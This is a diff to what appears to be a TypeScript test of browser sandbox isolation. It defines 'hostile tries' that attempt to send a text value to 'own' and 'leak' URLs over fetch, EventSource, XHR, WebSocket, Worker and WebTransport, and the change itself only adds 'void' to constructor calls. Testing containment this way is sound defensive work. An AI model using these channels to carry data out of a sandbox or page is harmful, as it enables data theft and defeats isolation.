@@ -29,8 +29,8 @@ export const threadTries: HostileTries = {
     await Promise.allSettled(paths.map(async (path) => await fetch(own + path, { method: 'POST', body: text })));
   },
   'event-source': async ({ own, paths, text }) => {
-    for (const path of paths.slice(0, 12)) new EventSource(`${own}${path}`);
-    new EventSource(`${own}/${text}`);
+    for (const path of paths.slice(0, 12)) void new EventSource(`${own}${path}`);
+    void new EventSource(`${own}/${text}`);
   },
   xhr: async ({ own, paths, text }) => {
     for (const path of paths) {
@@ -42,7 +42,7 @@ export const threadTries: HostileTries = {
     }
   },
   'web-socket': ({ own, leak, text }) => {
-    for (const one of [own, leak]) new WebSocket(`${one.replace('http', 'ws')}/${text}`, [text]);
+    for (const one of [own, leak]) void new WebSocket(`${one.replace('http', 'ws')}/${text}`, [text]);
   },
   'fetch-stranger': async ({ leak, text }) => {
     await Promise.allSettled([
@@ -74,13 +74,13 @@ export const threadTries: HostileTries = {
       for (const address of [own + path, `${own}${path}?${text}`, `${own}${path}#${text}`])
         for (const type of ['classic', 'module'] as const)
           try {
-            new Worker(address, { type, name: text, credentials: 'include' });
+            void new Worker(address, { type, name: text, credentials: 'include' });
           } catch {
             // refused at once
           }
   },
   'web-transport': async ({ leak, text }) => {
     const { WebTransport: Transport } = globalThis as unknown as { WebTransport: new (url: string) => object };
-    new Transport(`${leak.replace('http:', 'https:')}/${text}`);
+    void new Transport(`${leak.replace('http:', 'https:')}/${text}`);
   },
 };
